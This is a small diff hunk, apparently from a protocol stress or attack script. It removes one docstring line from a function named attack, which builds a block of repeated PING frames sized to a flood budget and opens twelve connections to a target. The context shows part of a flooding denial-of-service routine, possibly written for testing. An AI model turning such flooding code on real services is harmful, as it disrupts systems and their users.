@@ -14,7 +14,6 @@ MEMORY_MIB = 448
 
 
 def attack(target: Target) -> None:
-    """Ask all of them in turn."""
     block = frame(PING, id=9, flags=0) * (FLOOD_BYTES // 16)
     links = [target.joined().socket for _ in range(12)]
     for link in links:
